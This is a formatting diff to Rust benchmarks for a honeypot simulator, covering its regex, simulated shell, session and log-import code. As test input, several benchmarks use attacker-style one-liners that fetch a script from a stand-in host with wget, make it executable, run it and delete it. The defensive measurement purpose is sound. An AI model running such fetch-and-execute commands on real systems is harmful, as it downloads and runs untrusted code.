@@ -49,7 +49,9 @@ fn bench_regex_engine(c: &mut Criterion) {
         b.iter(|| black_box(conj.is_match(&huge)))
     });
     let lit = sregex::Regex::new("mdrfckr").unwrap();
-    c.bench_function("literal_miss_15kb", |b| b.iter(|| black_box(lit.is_match(&huge))));
+    c.bench_function("literal_miss_15kb", |b| {
+        b.iter(|| black_box(lit.is_match(&huge)))
+    });
 }
 
 fn bench_dld(c: &mut Criterion) {
@@ -72,13 +74,13 @@ fn bench_dld(c: &mut Criterion) {
 }
 
 fn bench_shell(c: &mut Criterion) {
-    let store = |uri: &str| {
-        (uri == "http://203.0.113.5/x.sh").then(|| b"#!/bin/sh\nX\n".to_vec())
-    };
+    let store = |uri: &str| (uri == "http://203.0.113.5/x.sh").then(|| b"#!/bin/sh\nX\n".to_vec());
     c.bench_function("shell_loader_session", |b| {
         b.iter(|| {
             let mut sh = honeypot::Shell::new(&store);
-            sh.exec_line("cd /tmp; wget http://203.0.113.5/x.sh; chmod 777 x.sh; sh x.sh; rm -rf x.sh");
+            sh.exec_line(
+                "cd /tmp; wget http://203.0.113.5/x.sh; chmod 777 x.sh; sh x.sh; rm -rf x.sh",
+            );
             black_box(sh.file_events().len())
         })
     });
@@ -97,9 +99,7 @@ fn bench_shell(c: &mut Criterion) {
 
 fn bench_wire_dialogue(c: &mut Criterion) {
     use honeypot::wire::{run_wire_session, WireSessionMeta};
-    let store = |uri: &str| {
-        (uri == "http://203.0.113.5/x.sh").then(|| b"#!/bin/sh\nX\n".to_vec())
-    };
+    let store = |uri: &str| (uri == "http://203.0.113.5/x.sh").then(|| b"#!/bin/sh\nX\n".to_vec());
     let meta = WireSessionMeta {
         honeypot_id: 1,
         honeypot_ip: netsim::Ipv4Addr(0x0a000001),
@@ -190,7 +190,9 @@ fn bench_cowrie_lossy_import(c: &mut Criterion) {
                 client_ip: netsim::Ipv4Addr(0x0a00_0000 + i as u32),
                 client_port: 4000 + (i as u16),
                 protocol: honeypot::Protocol::Ssh,
-                start: hutil::Date::new(2022, 5, 1).at(0, 0, 0).plus_secs(i as i64 * 60),
+                start: hutil::Date::new(2022, 5, 1)
+                    .at(0, 0, 0)
+                    .plus_secs(i as i64 * 60),
                 client_version: Some("SSH-2.0-Go".into()),
                 logins: vec![("root".into(), "root".into())],
                 commands: vec!["cd /tmp; wget http://203.0.113.5/x.sh; sh x.sh".into()],
